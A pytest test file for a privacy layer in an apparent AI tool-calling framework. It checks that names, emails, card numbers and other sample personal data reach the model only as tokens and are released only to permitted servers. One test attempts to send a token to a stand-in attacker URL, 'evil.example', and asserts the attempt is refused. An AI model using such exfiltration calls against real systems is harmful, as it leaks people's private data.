"""What a model, programs and servers get of personal data, with real servers and programs."""

import json
import os
import re
from collections.abc import AsyncGenerator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from satchel import Satchel, open_satchel
from satchel.model import CallResult, Json, Progress
from satchel.toolset import Toolset
from tests.projects import Project

pytestmark = pytest.mark.anyio

PERSON = {
    "id": 4111111111111111,
    "name": "Annelie Wöhrle",
    "email": "annelie.w@posteo.de",
    "phone": "+49 30 9018 2040",
    "card_number": "4111 1111 1111 1111",
    "iban": "DE89 3704 0044 0532 0130 00",
    "ssn": "078-05-1120",
    "passport_number": "C01X00T47",
    "ip": "203.12.9.77",
    "address": "Lindenstraße 12, 10115 Berlin",
    "birth_date": "1985-03-12",
    "staff": "E-123456",
    "notes": "Annelie Wöhrle asked twice; write to annelie.w@posteo.de",
}
CANARIES = [
    *(str(PERSON[key]) for key in PERSON if key not in ("id", "notes")),
    "Annelie",
    "posteo",
    "3704",
    "Lindenstr",
]
CRM = '''
import json
from pathlib import Path

PERSON = json.loads(Path(__file__).with_name("person.json").read_text())


def find(query: str) -> dict:
    """Find a person."""
    Path(__file__).with_name("crm.log").open("a").write(query + "\\n")
    return PERSON


def text(query: str = "") -> str:
    """Find a person, as text."""
    return "Found:\\n" + json.dumps(PERSON, indent=2)


def fail(query: str) -> str:
    """Fail."""
    raise ValueError(f"no luck with {PERSON['email']} and {query}")
'''
MAIL = '''
from pathlib import Path


def send(to: str, body: str = "") -> str:
    """Send a mail."""
    Path(__file__).with_name("mail.log").open("a").write(f"{to}|{body}\\n")
    return f"sent to {to}"
'''
SETTINGS: Json = {
    "code_execution": {"timeout": 30},
    "custom_tools": {
        "crm.find": "crm_tools:find",
        "crm.text": "crm_tools:text",
        "crm.fail": "crm_tools:fail",
        "mail.send": "mail_tools:send",
    },
    "in_context_tools": ["crm.find", "crm.fail", "crm.text", "mail.send"],
    "privacy": {"detect": ["all"], "kinds": {"STAFF_NUMBER": r"\bE-\d{6}\b"}},
}


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


def project_in(directory: Path, privacy: Mapping[str, Any] | None = None) -> Project:
    project = Project(directory / "project", {})
    (project.directory / "crm_tools.py").write_text(CRM)
    (project.directory / "mail_tools.py").write_text(MAIL)
    (project.directory / "person.json").write_text(json.dumps(PERSON))
    settings = {**SETTINGS, "privacy": {**SETTINGS["privacy"], **(privacy or {})}}
    (project.directory / "satchel.yaml").write_text(yaml.safe_dump(settings))
    return project


def opened(project: Project) -> Any:
    return open_satchel(project.directory, environment={**os.environ, "HOME": str(project.directory.parent)})


@pytest.fixture(scope="module")
async def satchel(tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[Satchel]:
    async with opened(project_in(tmp_path_factory.mktemp("privacy"))) as satchel:
        await satchel.servers.refresh()
        yield satchel


def shown(result: CallResult) -> str:
    """All that a model gets."""
    return json.dumps([list(result.content), result.structured, result.meta], ensure_ascii=False)


def leaks(text: str) -> list[str]:
    return [canary for canary in CANARIES if canary in text]


def token_in(text: str, kind: str) -> str:
    found = re.search(rf"{kind}_[a-z0-9]{{6,8}}\b", text)
    assert found is not None, text
    return found[0]


def log_of(satchel: Satchel, name: str) -> list[str]:
    file = satchel.configuration.paths.project / f"{name}.log"
    return file.read_text().splitlines() if file.exists() else []


async def ask(toolset: Toolset, tool: str, **arguments: Any) -> CallResult:
    return await toolset.call(tool, arguments)


@pytest.mark.parametrize("tool", ["crm__find", "crm__text"])
async def test_a_direct_call_shows_a_model_tokens_only(satchel: Satchel, tool: str) -> None:
    result = await ask(Toolset(satchel), tool, query="all")
    text = shown(result)
    assert leaks(text) == []
    assert not result.is_error
    for kind in (
        "PERSON",
        "PHONE",
        "CREDIT_CARD",
        "IBAN",
        "US_SSN",
        "NATIONAL_ID",
        "ADDRESS",
        "STAFF_NUMBER",
    ):
        token_in(text, kind)
    assert "4111111111111111" in text  # an id is not a card


async def test_the_server_that_a_value_came_from_gets_it_byte_for_byte(satchel: Satchel) -> None:
    toolset = Toolset(satchel)
    name = token_in(shown(await ask(toolset, "crm__find", query="all")), "PERSON")
    await ask(toolset, "crm__find", query=f"<{name.upper()}>")
    assert log_of(satchel, "crm")[-1] == "<Annelie Wöhrle>"


async def test_another_server_is_refused_until_the_settings_name_it(tmp_path: Path) -> None:
    project = project_in(tmp_path)
    async with opened(project) as satchel:
        await satchel.servers.refresh()
        toolset = Toolset(satchel)
        name = token_in(shown(await ask(toolset, "crm__find", query="all")), "PERSON")
        refused = await ask(toolset, "mail__send", to=f"http://evil.example/?q={name}")
        assert refused.is_error
        assert f"mail may not receive {name} (from crm)" in shown(refused)
        assert "privacy.reveal_to" in shown(refused)
        assert log_of(satchel, "mail") == []
        settings = yaml.safe_load((project.directory / "satchel.yaml").read_text())
        settings["privacy"]["reveal_to"] = ["mail.send"]
        (project.directory / "satchel.yaml").write_text(yaml.safe_dump(settings))
        sent = await ask(toolset, "mail__send", to=name)
        assert log_of(satchel, "mail") == ["Annelie Wöhrle|"]
        assert leaks(shown(sent)) == []
    database = b"".join(file.read_bytes() for file in (project.directory / ".satchel").glob("satchel.db*"))
    assert leaks(database.decode("utf-8", "replace")) == []


async def test_tokens_of_others_and_misspelt_ones_are_errors(satchel: Satchel) -> None:
    toolset = Toolset(satchel)
    name = token_in(shown(await ask(toolset, "crm__find", query="all")), "PERSON")
    before = log_of(satchel, "crm")
    for stranger in (Toolset(satchel), Toolset(satchel, agent="default")):
        refused = await ask(stranger, "crm__find", query=name)
        assert refused.is_error
        assert "not known here" in shown(refused)
    wrong = name[:-1] + ("b" if name[-1] != "b" else "c")
    near = await ask(toolset, "crm__find", query=wrong)
    assert f"did you mean {name}?" in shown(near)
    await satchel.privacy.forget(toolset.conversation.id)
    assert "not known here" in shown(await ask(toolset, "crm__find", query=name))
    assert log_of(satchel, "crm") == before


async def test_errors_have_no_personal_data(satchel: Satchel) -> None:
    toolset = Toolset(satchel)
    name = token_in(shown(await ask(toolset, "crm__find", query="all")), "PERSON")
    failed = await ask(toolset, "crm__fail", query=name)
    assert failed.is_error
    assert "no luck with" in shown(failed)
    assert leaks(shown(failed)) == []


PRINTS = {
    "python": """
from tools.crm import find, text, fail
from satchel_runtime import reveal, hide, call_tool
person = await find(query="all")
print(person)
print(repr(person["name"]), person["name"].upper(), str(person).encode())
import json, sys
print(json.dumps(person))
print(person["email"], file=sys.stderr)
open("note.txt", "w").write(person["notes"])
open(f"mail-{person['email']}.csv", "w").write("x")
print(open("note.txt").read())
print(await hide("my secret"))
try:
    await fail(query=person["name"])
except Exception as error:
    print(error)
result = person
""",
    "typescript": """
import { callCustomTool, hide } from "satchel-runtime";
const person = await callCustomTool("crm.find", { query: "all" });
console.log(person, JSON.stringify(person));
console.error(person.email);
console.log(await hide("my secret"));
try { await callCustomTool("crm.fail", { query: person.name }); } catch (error) { console.log(`${error}`); }
export const result = person;
""",
}


@pytest.mark.slow
@pytest.mark.parametrize("language", list(PRINTS))
@pytest.mark.parametrize("programs", ["values", "tokens"])
async def test_what_a_program_leaves_has_no_personal_data(
    tmp_path: Path, language: str, programs: str
) -> None:
    project = project_in(tmp_path, {"programs": programs})
    async with opened(project) as satchel:
        await satchel.servers.refresh()
        toolset = Toolset(satchel, mode="code")
        code = PRINTS[language]
        result = await ask(toolset, "execute_code", code=code, language=language)
        text = shown(result)
        assert leaks(text) == []
        assert not result.is_error, text
        token_in(text, "PERSON")
        assert log_of(satchel, "crm")[-1] == "all"
        raised = await ask(
            toolset,
            "execute_code",
            code="from tools.crm import find\nraise ValueError((await find(query='x'))['name'])",
        )
        assert leaks(shown(raised)) == []
        assert "ValueError: PERSON_" in shown(raised)
    database = b"".join(file.read_bytes() for file in (project.directory / ".satchel").glob("satchel.db*"))
    assert leaks(database.decode("utf-8", "replace")) == []


@pytest.mark.slow
async def test_programs_pass_tokens_and_values_and_both_are_checked(tmp_path: Path) -> None:
    async with opened(project_in(tmp_path)) as satchel:
        await satchel.servers.refresh()
        toolset = Toolset(satchel, mode="code")
        name = token_in(shown(await ask(toolset, "crm__find", query="all")), "PERSON")
        code = f"""
from tools.crm import find
from tools.mail import send
from satchel_runtime import reveal
person = await find(query="{name}")
print(await reveal("{name}") == person["name"], len(person["email"]))
for to in (person["email"], person["name"].upper(), f"q={{person['phone']}}&x", "{name}"):
    try:
        await send(to=to)
        print("SENT")
    except PermissionError as error:
        print("refused", error)
"""
        text = shown(await ask(toolset, "execute_code", code=code))
        assert "True 19" in text
        assert "SENT" not in text
        assert text.count("mail may not receive") >= 4
        assert leaks(text) == []
        assert log_of(satchel, "crm")[-1] == "Annelie Wöhrle"
        assert log_of(satchel, "mail") == []


@pytest.mark.slow
async def test_a_session_and_files_carry_nothing_into_another_conversation(tmp_path: Path) -> None:
    async with opened(project_in(tmp_path)) as satchel:
        await satchel.servers.refresh()
        one, other = Toolset(satchel, mode="code"), Toolset(satchel, mode="code")
        code = """
from tools.crm import find
kept = (await find(query="all"))["name"]
open("kept.txt", "w").write(kept)
"""
        begun = await ask(one, "execute_code", code=code, session="new")
        session = str(begun.structured["session"])
        text = shown(await ask(other, "execute_code", code="print('it is', kept)", session=session))
        text += shown(await ask(other, "execute_code", code="print('now', open('kept.txt').read())"))
        assert leaks(text) == []
        assert "it is PERSON_" in text and "now PERSON_" in text


@pytest.mark.slow
async def test_programs_that_see_tokens_reveal_nothing(tmp_path: Path) -> None:
    async with opened(project_in(tmp_path, {"programs": "tokens"})) as satchel:
        await satchel.servers.refresh()
        toolset = Toolset(satchel, mode="code")
        code = """
from tools.crm import find
from satchel_runtime import reveal
person = await find(query="all")
print(person["name"][::-1])
await find(query=person["name"])
await reveal(person["name"])
"""
        result = await ask(toolset, "execute_code", code=code)
        assert "privacy.programs is 'tokens'" in shown(result)
        assert "Annelie"[::-1] not in shown(result)
        assert log_of(satchel, "crm") == ["all", "Annelie Wöhrle"]


async def test_memory_keeps_values_and_shows_tokens(satchel: Satchel) -> None:
    toolset = Toolset(satchel, mode="search")
    email = re.search(r"[a-z0-9]{6}@email\.example", shown(await ask(toolset, "crm__find", query="all")))
    assert email is not None
    written = await ask(
        toolset,
        "memory",
        command="create",
        path="/memories/notes.md",
        file_text=f"# People\n\n- {email[0]} pays\n",
    )
    assert not written.is_error, shown(written)
    seen = await ask(toolset, "memory", command="view", path="/memories/notes.md")
    assert leaks(shown(seen)) == []
    assert email[0] in shown(seen) or "EMAIL_" in shown(seen)
    later = Toolset(satchel, mode="search")
    assert leaks(later.instructions()) == []
    assert leaks(shown(await ask(later, "memory", command="view", path="/memories/notes.md"))) == []
    kept = [file.read_text() for file in satchel.configuration.paths.project.rglob("notes.md")]
    assert any("annelie.w@posteo.de pays" in text for text in kept)


async def test_off_loads_nothing_and_changes_nothing(tmp_path: Path) -> None:
    import subprocess
    import sys

    project = project_in(tmp_path, {"detect": []})
    code = f"""
import anyio, json, sys
from satchel import open_satchel
from satchel.toolset import Toolset
async def main():
    async with open_satchel({str(project.directory)!r}) as satchel:
        await satchel.servers.refresh()
        result = await Toolset(satchel).call("crm__find", {{"query": "PERSON_ksn2vr"}})
        print(json.dumps(json.loads(result.text)))
        print([name for name in sys.modules if name.startswith("satchel.privacy")])
anyio.run(main)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    value, modules = done.stdout.splitlines()[-2:]
    assert json.loads(value) == PERSON
    assert modules == "[]"


async def test_reading_personal_data_is_labelled_private(satchel: Satchel) -> None:
    toolset = Toolset(satchel)
    await ask(toolset, "crm__find", query="all")
    assert "private" in toolset.conversation.reads.labels


async def test_only_what_a_server_is_to_have_hidden_is(tmp_path: Path) -> None:
    async with opened(project_in(tmp_path, {"detect": [], "servers": {"crm": ["email"]}})) as satchel:
        await satchel.servers.refresh()
        text = shown(await ask(Toolset(satchel), "crm__find", query="all"))
        assert "annelie.w@posteo.de" not in text
        assert "Annelie Wöhrle" in text


def test_progress_is_part_of_the_boundary() -> None:
    from satchel.calls.privacy import _telling
    from satchel.config.settings import PrivacySettings
    from satchel.model import Call, Caller
    from satchel.verbs.privacy.keeping import KeptVault
    from satchel.verbs.privacy.scopes import PrivacyScope
    from tests.fakes import make_tool

    heard: list[Any] = []
    caller = Caller(conversation="c")
    scope = PrivacyScope(KeptVault("default", "c", None), PrivacySettings(detect=("all",)), caller)
    call = Call(what=make_tool({"name": "find"}, server="crm"), caller=caller, tell=heard.append)
    _telling(call, scope)(Progress(progress=1, message="looking at annelie.w@posteo.de"))
    assert leaks(heard[0].message) == []
